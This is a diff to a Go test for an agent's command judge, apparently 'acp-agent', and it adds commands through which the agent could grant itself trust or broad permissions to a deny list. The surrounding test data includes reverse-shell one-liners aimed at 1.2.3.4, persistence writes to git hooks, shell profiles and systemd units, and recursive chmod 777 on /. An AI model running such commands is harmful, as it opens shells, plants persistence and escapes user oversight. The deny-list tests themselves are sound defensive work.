@@ -142,6 +142,7 @@ func TestJudge_Denies(t *testing.T) {
 			"echo x > .vscode/tasks.json", "cp a .mcp.json", "sed -i s/a/b/ ~/.profile", "git config core.hooksPath /tmp", "git config --global core.pager 'x'", "git config alias.x '!sh'", "echo {} > .acp-agent/config.jsonc",
 			"cp a ~/.config/acp-agent/config.jsonc", "rm .acp-agent/config.jsonc", "echo x > /data/acp/db", "mv a .envrc", "echo x > ~/.config/systemd/user/a.service", "systemctl --user enable a", "launchctl load a",
 			"at now", "echo x > .GIT/hooks/a", "ln -s /tmp/a .git/hooks/post-commit", "cd .git && echo x > config", "cd .git/hooks; cp /w/a pre-commit", "curl x -o ~/.bashrc", "echo a | sed -n 1p > ~/.zshenv",
+			"acp-agent trust --yes .", "nice acp-agent trust", "acp-agent permissions revoke 1", "/usr/bin/acp-agent tool bash --yes '{}'", "acp-agent run --allow='bash(*)' x", "acp-agent $X",
 		},
 		command.ReverseSh: {"bash -i >& /dev/tcp/1.2.3.4/99 0>&1", "nc -e /bin/sh x 1", "ncat --exec sh x 1", "nc x 1 | sh", "sh -i | nc x 1", "socat TCP:x:1 EXEC:sh", "exec 3<>/dev/tcp/x/1", "cat < /dev/tcp/x/1", `python3 -c 'import socket,subprocess;s=socket.socket()'`, "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc x 1 > /tmp/f"},
 		command.ChmodAll:  {"chmod -R 777 /", "chown -R a /", "chmod -R 777 ~", "chmod -R 000 $HOME", "chgrp --recursive a /home", "chown -R a:b /etc"},
